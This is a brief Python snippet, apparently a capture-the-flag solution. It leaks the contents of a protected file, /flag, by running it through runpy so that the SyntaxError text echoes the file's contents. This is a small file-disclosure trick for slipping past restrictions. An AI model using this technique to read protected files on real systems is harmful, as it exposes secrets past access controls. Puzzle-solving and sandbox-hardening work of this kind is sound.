# runpy tries to compile /flag as Python; the SyntaxError it raises carries
# the offending source line, i.e. the flag text, which is then printed.
import runpy

try:
    runpy.run_path('/flag', run_name='cfg')
except BaseException as e:
    print(type(e).__name__, getattr(e, 'text', None) or e)
